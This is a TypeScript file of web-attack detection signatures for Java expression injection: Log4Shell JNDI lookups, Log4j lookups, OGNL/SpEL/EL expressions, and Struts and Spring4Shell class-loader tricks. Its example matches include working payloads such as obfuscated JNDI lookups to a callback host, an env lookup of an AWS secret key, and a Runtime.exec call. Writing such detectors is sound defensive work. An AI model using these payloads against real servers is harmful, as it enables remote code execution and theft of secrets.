import type { Signature } from '../detector.ts'
import { within } from '../matching/within.ts'

const everywhere = ['query', 'body', 'path', 'referer', 'userAgent', 'user', 'host'] as const

/** The inside of `${…}`, `%{…}`, `#{…}`, `*{…}` and `@{…}`, up to the next bracket. */
const expression = /[%$#*@]\{[^{}]+/g
const expressionMarks = [
  /^.\{\s{0,4}\(?\s{0,3}(?:#\w|@\w|T\s?\(|new\s)/,
  /^.\{\s{0,4}\(?\s{0,3}\d{1,9}\s?[*+/-]\s?\d{1,9}/,
  /^.\{\s{0,4}['"][^'"]{0,20}['"]\s?\./,
  /^.\{\s{0,4}(?:request|session|application|param|pageContext|facesContext|header|cookie|initParam)[.[]/,
  /^.\{\s{0,4}(?:(?:application|request|session|page)Scope|pageContext|facesContext|initParam)\b/,
  /\b(?:getRuntime|ProcessBuilder|forName|getClass|getWriter)\b|@java\b|\bognl\b|_memberAccess|class\.classLoader/i,
  /\.(?:exec|execute|invoke|newInstance|getMethod|loadClass)\s?\(/,
  /\bprint(?:ln)?\s?\(/,
]

/** Lookups and expressions that Java resolves wherever they stand. */
export const javaExpressions: readonly Signature[] = [
  {
    id: 'java-jndi',
    title: 'a JNDI lookup (Log4Shell)',
    fields: everywhere,
    view: 'decoded',
    signs: ['jndi', '${'],
    patterns: [
      /\$\{\s{0,4}jndi\s{0,3}:\s?\w/i,
      /\bjndi\s?:\s?(?:ldaps?|rmi|dns|iiop|nis|nds|corba|https?)\s?:/i,
      // Hidden by lookups inside the lookup.
      /\$\{[\s\w:-]{0,12}\$\{[^{}]{0,12}:/,
      /\$\{::?-/,
    ],
    confidence: 0.95,
    matches: [
      'x=${jndi:ldap://203.0.113.5/a}',
      'x=${${lower:j}ndi:rmi://h/a}',
      'x=${${::-j}${::-n}di:dns://x}',
    ],
    ignores: ['x=${name}', 'q=jndi+tutorial', 'q=${price}+off', 'q=log4shell+${jndi}'],
  },
  {
    id: 'java-lookup',
    title: 'a lookup of Log4j or Commons Text',
    fields: everywhere,
    view: 'decoded',
    signs: ['${'],
    patterns: [
      /\$\{\s{0,3}(?:lower|upper|env|sys|java|ctx|main|base64(?:decoder|encoder)?|bundle|docker|k8s|log4j|marker|sd|spring|web|event|hostname)\s?:[^{}\s]/i,
      /\$\{\s{0,3}(?:url|dns|script|file|const|properties|xml|resourceBundle|localhost|urlDecoder|urlEncoder|xmlDecoder)\s?:[^{}\s]/i,
      /\$\{\s{0,3}(?:date|map)\s?:\s?\w/,
    ],
    confidence: 0.85,
    matches: ['x=${env:AWS_SECRET_ACCESS_KEY}', 'x=${url:UTF-8:http://h/}', 'x=${script:javascript:1%2B1}'],
    ignores: ['x=${name}', 'x=${}', 'q=${url}', 'q=url:+x'],
  },
  {
    id: 'java-lookup-address',
    title: 'the address of a naming service',
    fields: ['query', 'body', 'referer', 'userAgent'],
    view: 'decoded',
    signs: ['ldap', 'rmi:', 'iiop:', 'corba'],
    patterns: [
      /\b(?:rmi|iiop|corbaname|corbaloc):\/{0,2}[\w.-]{2,20}[\w.-]{0,5}[:/]/i,
      /\bldaps?:\/\/\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}(?::\d{2,5})?\/[\w=,%]/i,
      /\bldaps?:\/\/[\w.-]{1,20}[\w.-]{0,4}:\d{2,5}\/[\w=,%]/i,
    ],
    confidence: 0.6,
    matches: ['x=rmi://203.0.113.5:1099/a', 'x=ldap://203.0.113.5/Exploit', 'x=ldap://h.example:1389/o=x'],
    ignores: ['q=ldap', 'q=ldap://directory', 'q=rmi+claims'],
  },
  {
    id: 'java-expression',
    title: 'an expression of OGNL, SpEL or EL',
    fields: everywhere,
    view: 'decoded',
    signs: ['%{', '${', '#{', '*{', '@{'],
    structure:
      'between expression brackets: a variable of OGNL, a static call, new, a sum, a method of a text, a scope, or a method that runs or loads',
    find: (text) => within(text, expression, expressionMarks),
    confidence: 0.8,
    matches: [
      'x=%25{(%23a=1)}',
      'x=${T(java.lang.Runtime).getRuntime().exec("id")}',
      'x=${7*7}',
      "x=%23{''.getClass()}",
      'x=${applicationScope}',
    ],
    ignores: ['x=${name}', 'x=%{count}', 'x=#{tag}'],
  },
  {
    id: 'java-struts',
    title: 'access to what Struts hides',
    fields: everywhere,
    view: 'decoded',
    signs: [
      '_memberaccess',
      'ognl',
      'xwork',
      'opensymphony',
      '#context',
      '#application',
      '#session',
      '#request',
      '#parameters',
      '#attr',
      'redirect:',
      'action:',
      'class.',
      'class[',
      'classloader',
      'allowstatic',
      'denymethod',
      '(#',
    ],
    patterns: [
      /#_memberAccess|@ognl\.|\bognl\.\w{5}|com\.opensymphony|allowStaticMethodAccess|denyMethodExecution/i,
      /\bxwork2?\.(?:MethodAccessor|dispatcher|util)/i,
      /#(?:context|application|session|request|parameters|attr)\[/i,
      /\b(?:redirect|action|redirectAction):\s{0,3}[%$]\{/i,
      /\bclass\.(?:module\.)?classLoader\b|\bclass\[['"]?(?:module|classLoader)|\bclassLoader\.(?:resources|jarPath|URLs)/i,
      /\(#\w{1,25}\s?=/,
    ],
    confidence: 0.85,
    matches: ['x=class.module.classLoader.resources', 'redirect:${1}', "x=(%23_memberAccess['a']=1)"],
    ignores: ['q=class.+action', 'q=classloader', 'action=redirect'],
  },
  {
    id: 'java-class-loader',
    title: 'a parameter name that reaches inside the application (Spring4Shell)',
    fields: ['query', 'body'],
    part: 'names',
    view: 'decoded',
    signs: ['classloader', 'class.', 'class[', 'bootstrapstatus'],
    patterns: [
      /\bclass(?:\.module)?\.classLoader|\bclass\[['"]?(?:module|classLoader)/i,
      /\bclassLoader\.(?:resources|jarPath|URLs|parent)|^class\.module\b/i,
      /^bootstrapStatusProvider\.\w/,
    ],
    confidence: 0.9,
    matches: [
      'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x',
      'class.classLoader.jarPath=x',
      'class[module][classLoader]=x',
    ],
    ignores: ['class=a', 'class.name=b', 'loader=x'],
  },
]
